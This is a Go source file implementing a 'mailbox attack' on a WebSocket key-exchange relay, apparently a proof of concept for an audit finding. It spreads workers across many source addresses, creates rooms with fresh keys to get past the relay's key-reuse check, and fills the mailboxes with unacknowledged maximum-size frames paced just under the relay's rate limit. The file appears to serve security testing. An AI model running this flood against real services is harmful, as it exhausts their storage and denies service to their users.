package main

import (
	"context"
	"crypto/rand"
	"errors"
	"io"
	"net/netip"
	"sync"
	"time"

	"github.com/keyrelay/keyrelay/dh"
	"github.com/keyrelay/keyrelay/wire"
)

// mailboxConfig is the mailbox attack (finding 1).
type mailboxConfig struct {
	url            string
	sources        []netip.Addr
	workers        int           // rooms being filled at once per source
	duration       time.Duration // the whole attack
	maxFrame       int           // the relay's frame limit
	bytesPerSecond int           // each connection's sending rate, in frame bytes
	window         int           // msg frames sent and not yet answered, per connection
	maxPerRoom     int           // msg frames accepted per peer before the room is left
	roomTimeout    time.Duration // longest time spent on one room
	backoff        time.Duration // wait after a refused create or join, or a broken connection
}

// mailboxReport is what runMailbox prints.
type mailboxReport struct {
	Attack          string  `json:"attack"`
	Sources         int     `json:"sources"`
	WorkersPer      int     `json:"workers_per_source"`
	Seconds         float64 `json:"seconds"`
	BodyBytes       int     `json:"body_bytes"`  // one body before base64
	FrameBytes      int     `json:"frame_bytes"` // one msg frame
	BytesPerSecond  int     `json:"bytes_per_second_per_connection"`
	Counts          *counts `json:"counts"`
	AcceptedMiB     float64 `json:"accepted_body_mib"` // bodies the relay accepted (sent), decoded: what it stores
	AcceptedPerRoom float64 `json:"accepted_messages_per_room"`
}

func runMailbox(ctx context.Context, args []string, stderr io.Writer) (any, error) {
	fs := newFlagSet("mailbox", stderr)
	cfg := mailboxConfig{}
	var sources string
	fs.StringVar(&cfg.url, "url", "", "relay WebSocket URL (ws://127.0.0.1:PORT/v1/ws)")
	fs.StringVar(&sources, "sources", "127.0.0.1", "source addresses (list or range, as 127.0.1.1-127.0.1.32)")
	fs.IntVar(&cfg.workers, "workers", 8, "rooms being filled at once per source (two connections each)")
	fs.DurationVar(&cfg.duration, "duration", 90*time.Second, "attack duration")
	fs.IntVar(&cfg.maxFrame, "max-frame-bytes", 65536, "the relay's --max-frame-bytes")
	fs.IntVar(&cfg.bytesPerSecond, "bytes-per-second", 262144, "each connection's sending rate in frame bytes (the relay's --bytes-per-second), bursts of twice that")
	fs.IntVar(&cfg.window, "window", 4, "msg frames in flight per connection")
	fs.IntVar(&cfg.maxPerRoom, "max-per-room", 256, "msg frames accepted per peer before moving on (the relay's --max-pending)")
	fs.DurationVar(&cfg.roomTimeout, "room-timeout", 60*time.Second, "longest time spent on one room")
	fs.DurationVar(&cfg.backoff, "backoff", time.Second, "wait after a refused create or join, or a broken connection")
	if err := fs.Parse(args); err != nil {
		return nil, err
	}
	var err error
	if cfg.sources, err = parseAddrs(sources); err != nil {
		return nil, err
	}
	if cfg.url == "" || cfg.workers < 1 || cfg.window < 1 || cfg.bytesPerSecond < cfg.maxFrame {
		return nil, errors.New("need -url, -workers ≥ 1, -window ≥ 1 and -bytes-per-second ≥ -max-frame-bytes")
	}
	return mailbox(ctx, cfg), nil
}

// mailbox runs the attack until cfg.duration has passed.
func mailbox(ctx context.Context, cfg mailboxConfig) *mailboxReport {
	ctx, cancel := context.WithTimeout(ctx, cfg.duration)
	defer cancel()
	body := make([]byte, largestBody(cfg.maxFrame))
	rand.Read(body)
	frame := msgFrame(body)
	r := &mailboxReport{
		Attack: "mailbox", Sources: len(cfg.sources), WorkersPer: cfg.workers,
		BodyBytes: len(body), FrameBytes: len(frame), BytesPerSecond: cfg.bytesPerSecond,
		Counts: newCounts(),
	}
	start := time.Now()
	var wg sync.WaitGroup
	for _, src := range cfg.sources {
		d := newDialer(cfg.url, src)
		for range cfg.workers {
			wg.Go(func() {
				w := &mailboxWorker{cfg: cfg, d: d, frame: frame, c: r.Counts}
				w.run(ctx)
			})
		}
	}
	wg.Wait()
	r.Seconds = time.Since(start).Seconds()
	accepted := r.Counts.get("msg:sent")
	r.AcceptedMiB = float64(accepted) * float64(len(body)) / (1 << 20)
	if n := r.Counts.get("rooms_ready"); n > 0 {
		r.AcceptedPerRoom = float64(accepted) / float64(n)
	}
	return r
}

// mailboxWorker fills one room after another from one source.
type mailboxWorker struct {
	cfg   mailboxConfig
	d     *dialer
	frame []byte
	c     *counts
}

func (w *mailboxWorker) run(ctx context.Context) {
	var a, b *wsConn
	drop := func() {
		for _, c := range []*wsConn{a, b} {
			if c != nil {
				c.close()
			}
		}
		a, b = nil, nil
	}
	defer drop()
	for ctx.Err() == nil {
		if a == nil {
			var err error
			if a, err = w.d.dial(ctx, true); err == nil {
				b, err = w.d.dial(ctx, true)
			}
			if err != nil {
				w.c.add("dial:"+outcome(err), 1)
				drop()
				sleep(ctx, w.cfg.backoff)
				continue
			}
		}
		stage, err := w.room(ctx, a, b)
		if err != nil {
			w.c.add(stage+":"+outcome(err), 1)
			var ce codeError
			if !errors.As(err, &ce) || stage != "create" {
				drop() // a half-made room, or a broken connection
			}
			sleep(ctx, w.cfg.backoff)
			continue
		}
		drop() // the room is full: drop both connections and start over
		w.c.add("rooms_dropped", 1)
	}
}

// room creates a room on a, joins it from b, exchanges fresh keys and
// fills both mailboxes. It returns the stage that failed and why.
func (w *mailboxWorker) room(ctx context.Context, a, b *wsConn) (string, error) {
	ctx, cancel := context.WithTimeout(ctx, w.cfg.roomTimeout)
	defer cancel()
	if err := a.send(ctx, &wire.ClientFrame{Type: wire.TypeCreate, Group: ptr("x25519")}); err != nil {
		return "create", err
	}
	rf, err := a.expect(ctx, wire.TypeRoom)
	if err != nil {
		return "create", err
	}
	w.c.add("rooms_created", 1)
	if err := sendKey(ctx, a); err != nil {
		return "key", err
	}
	if _, err := a.expect(ctx, wire.TypeKeyOK); err != nil {
		return "key", err
	}
	if err := b.send(ctx, &wire.ClientFrame{Type: wire.TypeJoin, Room: ptr(rf.Room)}); err != nil {
		return "join", err
	}
	if _, err := b.expect(ctx, wire.TypeRoom); err != nil {
		return "join", err
	}
	if err := sendKey(ctx, b); err != nil {
		return "key", err
	}
	for _, c := range []*wsConn{b, a} {
		if _, err := c.expect(ctx, wire.TypeHandshakeComplete); err != nil {
			return "handshake", err
		}
	}
	w.c.add("rooms_ready", 1)
	var wg sync.WaitGroup
	for _, c := range []*wsConn{a, b} {
		wg.Go(func() { w.c.add("room_end:"+w.fill(ctx, c), 1) })
	}
	wg.Wait()
	return "", nil
}

// sendKey sends a fresh x25519 public key (the relay refuses a key it has
// seen in another room).
func sendKey(ctx context.Context, c *wsConn) error {
	k, err := dh.X25519().GenerateKey(rand.Reader)
	if err != nil {
		return err
	}
	return c.send(ctx, &wire.ClientFrame{Type: wire.TypeKey, Group: ptr("x25519"), PublicKey: ptr(k.PublicKey().Hex())})
}

// fill sends w.frame on c, paced at the byte budget with at most
// cfg.window unanswered, until the relay answers mailbox_full, maxPerRoom
// are accepted, or ctx ends. It never acks. It returns why it stopped.
func (w *mailboxWorker) fill(ctx context.Context, c *wsConn) string {
	p := newPacer(w.cfg.bytesPerSecond)
	inFlight, accepted := 0, 0
	stop := ""
	for {
		if stop == "" && inFlight < w.cfg.window && accepted+inFlight < w.cfg.maxPerRoom {
			if !p.wait(ctx, len(w.frame)) {
				stop = "timeout"
				continue
			}
			if err := c.sendRaw(ctx, w.frame); err != nil {
				return "send:" + outcome(err)
			}
			w.c.add("msg_frames_sent", 1)
			inFlight++
			continue
		}
		if inFlight == 0 {
			if stop == "" {
				stop = "max_per_room"
			}
			return stop
		}
		f, err := c.next(ctx)
		if err != nil {
			if stop == "" {
				stop = "read:" + outcome(err)
			}
			return stop
		}
		switch f.Type {
		case wire.TypeSent:
			inFlight--
			accepted++
			w.c.add("msg:sent", 1)
		case wire.TypeError:
			inFlight--
			w.c.add("msg:"+string(f.Code), 1)
			switch f.Code {
			case wire.CodeMailboxFull:
				if stop == "" {
					stop = "mailbox_full"
				}
			case wire.CodeRateLimited:
				sleep(ctx, 500*time.Millisecond)
			default:
				if stop == "" {
					stop = "error:" + string(f.Code)
				}
			}
		}
	}
}

// pacer spaces sends to a byte rate, with bursts of twice the rate: a
// token bucket that starts full, like the relay's.
type pacer struct {
	rate   float64 // bytes a second
	tokens float64
	last   time.Time
}

func newPacer(bytesPerSecond int) *pacer {
	return &pacer{rate: float64(bytesPerSecond), tokens: 2 * float64(bytesPerSecond), last: time.Now()}
}

// wait takes n bytes from the bucket, waiting until it has them; it
// reports false if ctx ended first.
func (p *pacer) wait(ctx context.Context, n int) bool {
	now := time.Now()
	p.tokens = min(2*p.rate, p.tokens+now.Sub(p.last).Seconds()*p.rate)
	p.last = now
	if short := float64(n) - p.tokens; short > 0 {
		if !sleep(ctx, time.Duration(short/p.rate*float64(time.Second))) {
			return false
		}
		p.tokens += short
		p.last = time.Now()
	}
	p.tokens -= float64(n)
	return true
}
